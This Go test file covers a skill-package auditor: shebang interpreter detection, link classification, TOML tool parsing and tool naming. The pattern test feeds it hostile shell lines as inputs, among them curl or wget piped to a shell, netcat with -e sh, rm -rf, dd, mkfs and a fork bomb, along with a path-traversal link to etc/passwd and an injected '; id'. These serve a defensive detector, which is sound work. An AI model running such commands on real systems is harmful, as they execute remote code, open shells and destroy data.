package zeroclaw_test

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/skillctl/skillctl/engine/host/zeroclaw"
	"github.com/skillctl/skillctl/engine/skill"
)

// layOut writes files below a scratch folder; "-> target" makes a link.
func layOut(t *testing.T, files map[string]string) string {
	t.Helper()
	root := t.TempDir()
	for name, text := range files {
		place := filepath.Join(root, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(place), 0o755); err != nil {
			t.Fatal(err)
		}
		var err error
		if target, ok := strings.CutPrefix(text, "-> "); ok {
			err = os.Symlink(target, place)
		} else {
			err = os.WriteFile(place, []byte(text), 0o644)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	return root
}

// readZeroClaw reads the skill in a folder below root, looking outside or not.
func readZeroClaw(t *testing.T, root, folder string, look bool) *zeroclaw.View {
	t.Helper()
	s, real := readSkill(t, root, folder)
	if !look {
		real = ""
	}
	return zeroclaw.Read(s, real)
}

// readSkill reads the skill in a folder below root and returns its real path.
func readSkill(t *testing.T, root, folder string) (*skill.Skill, string) {
	t.Helper()
	real := filepath.Join(root, filepath.FromSlash(folder))
	dir, err := os.OpenRoot(real)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = dir.Close() }()
	s, err := skill.Read(context.Background(), dir, folder, skill.WithDir(filepath.Base(real)))
	if err != nil {
		t.Fatal(err)
	}
	return s, real
}

func TestZeroClawInterpreters(t *testing.T) {
	t.Parallel()
	tests := map[string]string{
		"#!/bin/bash\n":               "bash",
		"#!/usr/bin/env -S BASH -e\n": "bash",
		" \t#!/bin/sh\n":              "sh",
		"#!sh\n":                      "sh",
		"#!/usr/bin/env FOO=1 bash\n": "foo=1",
		"#!/bin/sh/.\n":               "sh",
		"#!/bin/..\n":                 "",
		"#!\n":                        "",
		"\n#!/bin/sh\n":               "",
		"#!/usr/bin/env\n":            "",
		"#!" + strings.Repeat("/x", 64) + "/bin/bash\n":          "x",
		"#!" + strings.Repeat("/", 122) + "/bin/sh\n":            "bin",
		"print('#!/bin/sh')\n":                                   "",
		"#!/usr/bin/env python3\n\"\"\"Refreshes cache.\"\"\"\n": "python3",
	}
	for text, want := range tests {
		root := layOut(t, map[string]string{"a/SKILL.md": "# A\n", "a/run": text})
		if got := readZeroClaw(t, root, "a", false).Interpreters["run"]; got != want {
			t.Errorf("%.40q: interpreter %q, want %q", text, got, want)
		}
	}
}

func TestZeroClawLinks(t *testing.T) {
	t.Parallel()
	root := layOut(t, map[string]string{
		"x/skills/a/SKILL.md": strings.Join([]string{
			"[a](https://x/y.md) [b](#frag) [c]() [d]( ) [e](mailto:x@y)", // not listed
			"[f](HTTPS://x) [g](docs/a.md#s) ![h](<docs/b c.md> \"title\") `[i](javascript:x)`",
			"[j](docs/none.md?q) [k](../b/SKILL.md) [l](../../out.md) [m](../none.md)",
			"[n](/etc/x.md) [o](../a/docs/a.md) [p](docs) [q](link/a.md) [r][(x)](s.md",
			"t.md) [u](../c) [v](x:)",
		}, "\n"),
		"x/skills/a/docs/a.md": "x", "x/skills/b/SKILL.md": "x", "x/out.md": "x", "x/skills/c/y": "z",
		"x/skills/a/link": "-> ../../elsewhere",
	})
	z := readZeroClaw(t, root, "x/skills/a", true)
	var got []string
	for _, l := range z.Links {
		if l.File == "SKILL.md" {
			got = append(got, strings.TrimRight(strings.Join([]string{l.Target, l.Scheme, l.Where, l.Is}, " "), " "))
		}
	}
	want := []string{
		"HTTPS://x HTTPS", "docs/a.md#s  inside file", "docs/b  missing", "javascript:x javascript",
		"docs/none.md?q  missing", "../b/SKILL.md  skills file", "../../out.md  outside file", "../none.md  missing",
		"/etc/x.md  unknown", "../a/docs/a.md  inside file", "docs  inside other", "link/a.md  unknown", "s.md  missing",
		"../c  skills other", "x:  missing",
	}
	// The brackets of [r] are followed by another pair: only the second counts.
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
	if !z.Outside {
		t.Error("the facts depend on files outside, but do not say so")
	}
	line := z.Links[1].Span.Start
	if line.Line != 2 || line.Column != 20 {
		t.Errorf("the second link stands at %d:%d, want 2:20", line.Line, line.Column)
	}
	z = readZeroClaw(t, root, "x/skills/a", false)
	if z.Outside {
		t.Error("looked outside although it was not asked to")
	}
	for _, l := range z.Links {
		if strings.HasPrefix(l.Path, "../b") && l.Where != "unknown" {
			t.Errorf("%s is %s, though nothing was looked for", l.Path, l.Where)
		}
	}
}

func TestZeroClawDoesNotLookAtTheRoot(t *testing.T) {
	t.Parallel()
	root := layOut(t, map[string]string{"a/SKILL.md": "[x](" + strings.Repeat("../", 40) + "etc/passwd.md)"})
	z := readZeroClaw(t, root, "a", true)
	if len(z.Links) != 1 || z.Links[0].Where != "unknown" {
		t.Errorf("links %+v, want one that is unknown", z.Links)
	}
}

func TestZeroClawManyLinks(t *testing.T) {
	t.Parallel()
	root := layOut(t, map[string]string{"a/SKILL.md": strings.Repeat("[](x)", 6000)})
	z := readZeroClaw(t, root, "a", false)
	if len(z.Links) != 5000 || !z.Truncated {
		t.Errorf("%d links, truncated %v", len(z.Links), z.Truncated)
	}
}

func TestZeroClawManifests(t *testing.T) {
	t.Parallel()
	root := layOut(t, map[string]string{
		"a/SKILL.md": "-> real.md", "a/real.md": "x", "a/manifest.toml/x": "y", "a/SKILL.toml": "-> nowhere",
	})
	z := readZeroClaw(t, root, "a", false)
	if diff := cmp.Diff([]string{"SKILL.md"}, z.Manifests); diff != "" {
		t.Error(diff)
	}
	if z.Entries != 6 {
		t.Errorf("%d entries, want 6", z.Entries)
	}
}

func TestZeroClawTools(t *testing.T) {
	t.Parallel()
	root := layOut(t, map[string]string{"a/SKILL.toml": `
prompts = ["one"]
[skill]
name = "my skill"
description = "d"
[forge]
stars = 3
[[tools]]
name = "run"
kind = "shell"
command = "cat {{file}} {{other}} {{"
args = { file = "the file" }
timeout_secs = 5
[[tools]]
kind = 3
target = "x__y"
default_args = { a = "1" }
args = { a = "x", b = "y" }
`, "a/x.toml": "tools = [{command = ' ', kind = 'Script'}, 1]", "a/bad.toml": "[", "a/latin.toml": "x = '\xfc'"})
	z := readZeroClaw(t, root, "a", false)
	if len(z.Tools) != 2 {
		t.Fatalf("%d tools, want 2", len(z.Tools))
	}
	run := z.Tools[0]
	if !strings.HasPrefix(run.Callable, "my_skill__run_") || len(run.Callable) != len("my_skill__run_")+16 {
		t.Errorf("callable %q", run.Callable)
	}
	if run.Written != "my skill__run" || run.Probe != "cat x; id {{other}} {{" || *run.Timeout != 5 {
		t.Errorf("tool %+v", run)
	}
	if diff := cmp.Diff([]string{"file", "other"}, run.Placeholders); diff != "" {
		t.Error(diff)
	}
	second := z.Tools[1]
	if diff := cmp.Diff([]string{"a"}, second.Shadowed); diff != "" {
		t.Error(diff)
	}
	if second.Kind != "" || *second.Target != "x__y" || second.Probe != "" {
		t.Errorf("tool %+v", second)
	}
	if z.Manifest["version"] != "0.1.0" || z.Manifest["name"] != "my skill" {
		t.Errorf("manifest %v", z.Manifest)
	}
	audited := map[string]string{}
	for _, file := range z.TOML {
		if file.Error != nil {
			audited[file.File] = "error"
			continue
		}
		for _, tool := range file.Tools {
			audited[file.File] += tool.Kind + ":" + tool.Command + " "
		}
	}
	want := map[string]string{"SKILL.toml": "shell:given unknown:missing ", "x.toml": "Script:empty unknown:missing ", "bad.toml": "error"}
	if diff := cmp.Diff(want, audited); diff != "" {
		t.Error(diff)
	}
	if diff := cmp.Diff([]string{"latin.toml"}, z.Unreadable); diff != "" {
		t.Error(diff)
	}
}

func TestZeroClawToolName(t *testing.T) {
	t.Parallel()
	tests := []struct{ skill, tool, want string }{
		{"a", "b-c_D1", "a__b-c_D1"},
		{"a:b", "run", "a_b__run_48391ffc6e29f16f"},
		{strings.Repeat("a", 58), "bcde", strings.Repeat("a", 58) + "__bcde"},
	}
	for _, tt := range tests {
		if got := zeroclaw.ToolName(tt.skill, tt.tool, 64); got != tt.want {
			t.Errorf("ZeroClawToolName(%q, %q) = %q, want %q", tt.skill, tt.tool, got, tt.want)
		}
	}
	long := zeroclaw.ToolName(strings.Repeat("ü", 50), "x", 64)
	if len(long) != 64 || !strings.HasPrefix(long, strings.Repeat("_", 47)+"_") {
		t.Errorf("%q has %d bytes", long, len(long))
	}
}

func TestZeroClawPatterns(t *testing.T) {
	t.Parallel()
	tests := map[string]string{
		"x\ncurl https://x | sh\n": "curl-pipe-shell", "wget -qO- x | bash": "wget-pipe-shell", "IEX $x": "powershell-iex",
		"rm  -rf /tmp": "destructive-rm-rf-root", "nc h 1 -e sh": "netcat-remote-exec", "dd if=/dev/zero": "disk-overwrite-dd",
		"mkfs.ext4 /dev/x": "filesystem-format", ":(){ :|:& };:": "fork-bomb",
		"curl x | jq .": "", "rm -r /tmp": "", "index": "", "nc -l 1": "", "add if=": "",
	}
	for text, want := range tests {
		root := layOut(t, map[string]string{"a/SKILL.md": text})
		got := ""
		read, _ := readSkill(t, root, "a")
		for _, hit := range zeroclaw.ReadPatterns(read) {
			got += hit.ID
		}
		if got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}
